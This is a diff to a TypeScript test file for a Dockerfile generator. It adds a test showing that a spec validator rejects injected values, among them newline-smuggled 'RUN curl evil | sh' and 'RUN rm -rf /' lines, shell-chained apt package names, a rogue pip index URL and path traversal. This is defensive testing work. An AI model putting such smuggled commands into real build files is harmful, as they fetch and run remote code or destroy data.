@@ -1,7 +1,8 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { specFromAnalysis, SpecError, systemPackagesFor, isJupyterImage, isCudaImage, generateCompose, generateDockerfile, generateDockerignore } from '../../src/core/generate';
+import { specFromAnalysis, SpecError, validateSpec, systemPackagesFor, isJupyterImage, isCudaImage, generateCompose, generateDockerfile, generateDockerignore } from '../../src/core/generate';
 import { parse } from 'yaml';
+import { ProjectSpec } from '../../src/core/project';
 import { analysis, req } from './analysis-samples';
 
 test('specFromAnalysis: runtime requirements only, pins kept, mode/entry/python from the analysis', () => {
@@ -84,5 +85,29 @@ test('dockerignore: secrets, caches, VCS, venvs, chosen data folders; .env never
   const d = generateDockerignore({ ...base, mode: 'script', ignoreFolders: ['data/', './raw\\images'] }).split('\n');
   for (const p of ['.git', '.venv', '**/__pycache__', '**/.ipynb_checkpoints', '**/.env', '**/*.pem', '**/id_rsa*', '**/*.key', '**/credentials*.json', 'data', 'raw/images']) {
     assert.ok(d.includes(p), p);
+  }
+});
+
+test('validateSpec: values that would inject instructions or commands are refused, naming each problem', () => {
+  const ok = { ...base, mode: 'script' as const, entry: 'train.py' };
+  assert.doesNotThrow(() => validateSpec({ ...ok, baseImage: 'registry.example:5000/team/py:3.11-slim@sha256:' + 'a'.repeat(64) }));
+  assert.doesNotThrow(() => validateSpec({ ...ok, baseImage: 'nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04', systemPackages: ['libglib2.0-0', 'g++'] }));
+  const bad: [Partial<ProjectSpec>, RegExp][] = [
+    [{ baseImage: 'python:3.11\nRUN curl evil | sh' }, /not an image name/],
+    [{ baseImage: 'Python:3.11' }, /not an image name/],
+    [{ entry: 'train.py\nRUN rm -rf /' }, /entry [\s\S]* inside the project/],
+    [{ entry: '../outside.py' }, /inside the project/],
+    [{ entry: '/abs/main.py' }, /inside the project/],
+    [{ systemPackages: ['libgl1; curl evil'] }, /not an apt package name/],
+    [{ requirements: [{ name: 'numpy', version: '1.0 --index-url http://evil' }] }, /not a version of numpy/],
+    [{ requirements: [{ name: 'x y' }] }, /not a distribution name/],
+    [{ ignoreFolders: ['data\n!**/.env'] }, /folder [\s\S]* inside the project/],
+    [{ port: 70000 }, /not a TCP port/],
+    [{ appObject: 'app; import os' }, /not a Python name/],
+    [{ pythonVersion: '3.11 ' }, /must look like 3\.11/],
+  ];
+  for (const [over, re] of bad) {
+    assert.throws(() => validateSpec({ ...ok, ...over }), (e) => e instanceof SpecError && re.test(e.message), JSON.stringify(over));
+    assert.throws(() => generateDockerfile({ ...ok, ...over }), SpecError, 'the generators validate too');
   }
 });
